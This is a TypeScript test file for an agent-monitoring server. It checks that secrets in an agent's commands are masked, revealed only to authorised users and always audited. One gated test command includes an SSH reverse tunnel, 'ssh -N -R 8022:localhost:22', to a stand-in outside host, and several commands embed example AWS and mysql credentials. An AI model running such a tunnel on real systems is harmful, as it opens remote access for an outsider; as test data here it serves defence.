// Secrets in what an agent wrote, over HTTP on a real server: masked for everybody, shown to those who may act, and never without a record.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { AuditPage } from './protocol/audit.ts'
import { EventView, SessionDetail, SessionRow } from './protocol/browser-messages.ts'
import { BacktestView } from './protocol/rule-view.ts'
import { maskOf } from './protocol/secrets.ts'
import { startForTest, type TestServer } from './start-for-test.ts'

const session = 'ep-secrets'
const key = `AKIA${'IOSFODNN7EXAMPLE'}`
const command = `AWS_ACCESS_KEY_ID=${key} mysql --password=hunter2 -e 'select 1'`
const maskedCommand = command.replace(key, maskOf('AWS access key', 20)).replace('hunter2', maskOf('password', 7))
const json = { 'content-type': 'application/json' }

let server: TestServer
let readKey: string
let askKey: string
beforeAll(async () => {
  server = await startForTest()
  readKey = await makeKey('reader', 'read')
  askKey = await makeKey('asker', 'ingest')
  const event = (kind: string, data: object) => JSON.stringify({ v: 1, kind, atMs: Date.now(), session, data })
  const process = { pid: 7, ppid: 1, startTicks: 9, comm: 'mysql', argv: ['mysql', '--password', 'hunter2'] }
  await server.api('/api/ingest/events', {
    method: 'POST',
    headers: { 'content-type': 'application/x-ndjson' },
    body: [
      event('session.started', { held: 'none', abilities: [], argv: ['agent', `--token=${key}`] }),
      event('action.started', { call: 'c1', tool: 'Bash', input: JSON.stringify({ command }), summary: command }),
      event('process.started', process),
      event('action.ended', { call: 'c1', outcome: 'ok', output: `key is ${key}` }),
    ].join('\n'),
  })
})
afterAll(() => server?.stop())

async function makeKey(name: string, scope: string): Promise<string> {
  const body = JSON.stringify({ name, scopes: [scope] })
  const made = await server.api('/api/keys', { method: 'POST', headers: json, body })
  return ((await made.json()) as { key: string }).key
}

const bodyOf = async (path: string, init?: RequestInit) => (await server.api(path, init)).text()
const events = async () =>
  (JSON.parse(await bodyOf(`/api/sessions/${session}/events`)) as { events: unknown[] }).events.map((each) =>
    EventView.parse(each),
  )
const reveal = (body: object, headers: Record<string, string> = {}) =>
  server.api(`/api/sessions/${session}/reveal`, {
    method: 'POST',
    headers: { ...json, ...headers },
    body: JSON.stringify(body),
  })
const revealsOnRecord = async () =>
  AuditPage.parse(JSON.parse(await bodyOf('/api/audit?q=secret.revealed'))).entries.map(
    ({ body }) => JSON.parse(body) as { session: string; by: { name: string }; data: Record<string, unknown> },
  )

describe('a secret in a session', () => {
  it('stands in no answer of the API, and each event says how many it held', async () => {
    for (const path of ['/api/sessions', `/api/sessions/${session}`, `/api/sessions/${session}/events`]) {
      const body = await bodyOf(path)
      expect(body, path).not.toContain(key)
      expect(body, path).not.toContain('hunter2')
    }
    const row = SessionRow.parse((JSON.parse(await bodyOf('/api/sessions')) as { sessions: unknown[] }).sessions[0])
    expect(row.doing?.text).toContain('‹masked:')
    const detail = SessionDetail.parse(JSON.parse(await bodyOf(`/api/sessions/${session}`)))
    expect(detail.processes[0]?.argv).toEqual(['mysql', '--password', maskOf('password', 7)])
    const action = (await events()).find((each) => each.kind === 'action.started')
    expect(action?.data.summary).toBe(maskedCommand)
    expect(action?.masked).toEqual({ 'AWS access key': 2, password: 2 })
  })

  it('stands in no backtest either, which a viewer may read: neither in what would be new nor in what would be gone', async () => {
    // given: a rule that shows the whole command line
    const rule = (word: string) => `title: Runs ${word}
id: 22222222-2222-4333-8444-555555555555
logsource: {product: linux, category: process_creation}
detection:
  selection: {CommandLine|contains: '${word}'}
  condition: selection
level: medium
`
    const backtest = async (text: string) => {
      const request = { name: 'console/mysql.yml', text, hours: 1 }
      const started = await bodyOf('/api/backtests', { method: 'POST', headers: json, body: JSON.stringify(request) })
      return ended((JSON.parse(started) as { id: string }).id)
    }

    // when
    const appeared = await backtest(rule('mysql'))
    const kept = { name: 'console/mysql.yml', text: rule('mysql'), base: 0 }
    await server.api('/api/rule-documents', { method: 'PUT', headers: json, body: JSON.stringify(kept) })
    const disappeared = await backtest(rule('another word'))
    await server.api('/api/rule-documents?name=console/mysql.yml&base=1', { method: 'DELETE' })
    const list = await bodyOf('/api/backtests', { headers: { authorization: `Bearer ${readKey}` } })

    // then
    expect(appeared).toMatchObject({ state: 'done', appearedCount: 2 })
    expect(disappeared).toMatchObject({ state: 'done', disappearedCount: 2 })
    for (const body of [JSON.stringify([appeared, disappeared]), list]) {
      expect(body).toContain(maskOf('password', 7))
      expect(body).not.toContain(key)
      expect(body).not.toContain('hunter2')
    }
  })

  it('is shown to somebody who may act, and that is in the audit before the answer', async () => {
    const action = (await events()).find((each) => each.kind === 'action.started')
    const answer = await reveal({ seq: action?.seq })
    expect(answer.status).toBe(200)
    expect(await answer.json()).toMatchObject({ seq: action?.seq, data: { summary: command } })
    expect(await revealsOnRecord()).toMatchObject([
      {
        session,
        data: {
          change: 'secret.revealed',
          subject: `event ${action?.seq} of ${session}`,
          detail: '2 × AWS access key, 2 × password',
        },
      },
    ])
  })

  it('is not shown to who only reads, nor where nothing is masked, nor of another session, and none of that is on record', async () => {
    const before = (await revealsOnRecord()).length
    const all = await events()
    const action = all.find((each) => each.kind === 'action.started')
    const plain = all.find((each) => each.masked === undefined)
    expect((await reveal({ seq: action?.seq }, { authorization: `Bearer ${readKey}` })).status).toBe(403)
    expect((await reveal({ seq: 999_999 })).status).toBe(404)
    expect((await reveal({ approval: 'apr-none' })).status).toBe(404)
    if (plain) expect((await reveal({ seq: plain.seq })).status).toBe(409)
    expect((await revealsOnRecord()).length).toBe(before)
  })
})

describe('a secret in a call that waits for a person', () => {
  it('is masked on the card, its digest is that of the original, an edit with a mask in it is refused, and it is shown with a record', async () => {
    // given: a call that the standard policy lets wait
    const ask = {
      session,
      callId: 'g1',
      tool: 'Bash',
      input: { command: `${command}; ssh -N -R 8022:localhost:22 x@203.0.113.9` },
      deadlineMs: 8_000,
    }
    const asker = { ...json, authorization: `Bearer ${askKey}` }
    const decided = server.api('/api/gate', { method: 'POST', headers: asker, body: JSON.stringify(ask) })
    const waiting = await waitForApproval()
    expect(JSON.stringify(waiting)).not.toContain(key)
    expect(waiting.masked).toMatchObject({ 'AWS access key': 1, password: 1 })
    expect(await bodyOf(`/api/approvals/${waiting.approval}/reading`)).not.toContain(key)

    // when: somebody edits what is masked, and then looks at the original
    const edit = { decision: 'edit', digest: waiting.digest, input: JSON.parse(waiting.input) }
    const refused = await server.api(`/api/approvals/${waiting.approval}/decision`, {
      method: 'POST',
      headers: json,
      body: JSON.stringify(edit),
    })
    const shown = (await (await reveal({ approval: waiting.approval })).json()) as { approval: { input: string } }

    // then
    expect(refused.status).toBe(422)
    expect(shown.approval.input).toContain(key)
    expect((await revealsOnRecord())[0]?.data.subject).toBe(`approval ${waiting.approval} of ${session}`)
    const approve = { decision: 'approve', digest: waiting.digest }
    await server.api(`/api/approvals/${waiting.approval}/decision`, {
      method: 'POST',
      headers: json,
      body: JSON.stringify(approve),
    })
    expect(await (await decided).json()).toMatchObject({ decision: 'allow' })
  })
})

/** As somebody reads it who may only read. */
async function ended(backtest: string): Promise<BacktestView> {
  for (let tries = 0; ; tries += 1) {
    const body = await bodyOf(`/api/backtests/${backtest}`, { headers: { authorization: `Bearer ${readKey}` } })
    const view = BacktestView.parse(JSON.parse(body))
    if (view.state !== 'running' || tries > 200) return view
    await new Promise((resolve) => setTimeout(resolve, 25))
  }
}

type Waiting = { approval: string; digest: string; input: string; masked?: object }

async function waitForApproval(): Promise<Waiting> {
  for (let tries = 0; tries < 200; tries += 1) {
    const { approvals } = JSON.parse(await bodyOf(`/api/approvals?state=waiting&session=${session}`)) as {
      approvals: Waiting[]
    }
    if (approvals[0]) return approvals[0]
    await new Promise((resolve) => setTimeout(resolve, 25))
  }
  throw new Error('no call waits')
}
